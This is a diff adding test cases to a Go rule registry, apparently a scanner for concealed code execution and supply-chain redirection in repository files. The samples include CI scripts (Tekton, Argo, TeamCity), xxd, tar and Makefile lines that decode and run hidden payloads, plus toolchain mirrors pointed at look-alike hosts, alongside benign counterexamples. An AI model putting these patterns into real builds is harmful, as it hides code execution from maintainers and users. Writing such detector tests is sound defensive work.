@@ -151,6 +151,18 @@ var registry = []Rule{
 			{"x.sh", "php -r 'echo base64_decode($argv[1]);' \"$P\" | sh", 0, false},
 			{"x.sh", "curl -s https://api.x.invalid/cfg | jq -r '.s | @base64d' | sh", 0, false},
 			{"x.sh", "perl -ne 'print if /^export /' env.sh | sh", 0, true},
+			// A Tekton task's or an Argo template's script, a TeamCity step's
+			// scriptContent (${'$'} is a $ the shell gets).
+			{"ci/tekton/task.yaml", "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - name: x\n      image: alpine\n      script: |\n        echo \"$P\" | base64 -d > /tmp/x.sh\n        sh /tmp/x.sh", 0, false},
+			{"argo/wf.yaml", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n    - name: x\n      script:\n        image: alpine\n        command: [sh]\n        source: |\n          echo \"$P\" | base64 -d > /tmp/x.sh\n          sh /tmp/x.sh", 0, false},
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                echo \"${'$'}P\" | base64 -d > /tmp/x.sh\n                bash /tmp/x.sh\n            \"\"\".trimIndent()\n        }\n    }\n})", 6, false},
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                ./gradlew build\n                echo \"${'$'}BUILD_NUMBER\" > build.txt\n            \"\"\".trimIndent()\n        }\n    }\n})", 0, true},
+			// xxd's second operand is the file it writes; tar's bundled -O
+			// prints a member; make's $(eval) reads a variable as make.
+			{"x.sh", "xxd -r -p payload.hex /tmp/t && chmod +x /tmp/t && /tmp/t", 0, false},
+			{"x.sh", "tar -xOzf assets.tgz hidden/run.sh | sh", 0, false},
+			{"Makefile", "PAYLOAD := $(shell echo $(P) | base64 -d)\n$(eval $(PAYLOAD))", 2, false},
+			{"Makefile", "define RULE\nbuild/%: src/%\n\tcp $< $@\nendef\n$(eval $(RULE))", 0, true},
 			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
 			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
 			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
@@ -890,7 +902,7 @@ var registry = []Rule{
 			{"requirements-dev.txt", "torch @ https://download.pytorch.org/whl/cpu/torch-2.3.0%2Bcpu-cp311-cp311-linux_x86_64.whl", 0, true},
 			{"package.json", "{\n  \"dependencies\": {\n    \"lodash\": \"^4.17.21\"\n  }\n}", 3, true},
 			// An import map sends a name to code at a URL.
-			{"deno.json", "{\n  \"imports\": {\n    \"@std/path\": \"https://deno-land.jsr-cdn.x.invalid/@std/path/1.0.8/mod.ts\"\n  }\n}", 3, false},
+			{"deno.json", "{\n  \"imports\": {\n    \"@std/path\": \"https://modules.jsr-cdn.x.invalid/@std/path/1.0.8/mod.ts\"\n  }\n}", 3, false},
 			{"deno.json", "{\n  \"imports\": {\n    \"$std/\": \"https://deno.land/std@0.224.0/\",\n    \"x\": \"https://raw.githubusercontent.com/o/r/0123456789abcdef0123456789abcdef01234567/mod.ts\",\n    \"preact\": \"https://esm.sh/preact@10.22.0\",\n    \"@std/assert\": \"jsr:@std/assert@^1.0.0\"\n  }\n}", 0, true},
 			// A hunk inside the block, its key not shown.
 			{"package.json", "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n@@ -3,2 +3,2 @@\n     \"eslint\": \"^8.56.0\",\n-    \"chalk\": \"^5.3.0\"\n+    \"chalk\": \"github:chalk-dev/chalk#v5.3.0\"\n", 4, false},
@@ -1112,6 +1124,10 @@ var registry = []Rule{
 			{"x.ps1", "dotnet tool install -g dotnet-format --add-source https://api.nuget-cdn.invalid/v3/index.json", 1, false},
 			{"x.sh", "gem install rails --source https://rubygems.org\ncpanm --mirror https://cpan.metacpan.org App::cpanminus\nexport UV_INDEX=https://download.pytorch.org/whl/cpu", 0, true},
 			{"pixi.toml", "[project]\nchannels = [\"conda-forge\", \"https://prefix.dev/my-channel\"]\n[pypi-options]\nindex-url = \"https://pypi.org/simple\"", 0, true},
+			// A toolchain's or an install script's download mirror.
+			{".github/workflows/ci.yml", "on: push\nenv:\n  NVM_NODEJS_ORG_MIRROR: https://nodejs-org.dist-mirror.invalid/dist\njobs: {}", 3, false},
+			{"x.sh", "export RUSTUP_DIST_SERVER=https://static.rust-lang-mirror.invalid && rustup toolchain install stable", 1, false},
+			{".npmrc", "electron_mirror=https://npmmirror.com/mirrors/electron/\ndisturl=https://nodejs.org/dist", 0, true},
 			// Any file's URL on a forge's host worn in front of another
 			// domain: no real host is named so.
 			{"config/vendor.yaml", "libs:\n  - mirror: https://github.com.mirror-git.x.invalid/acme/lib.git", 2, false},
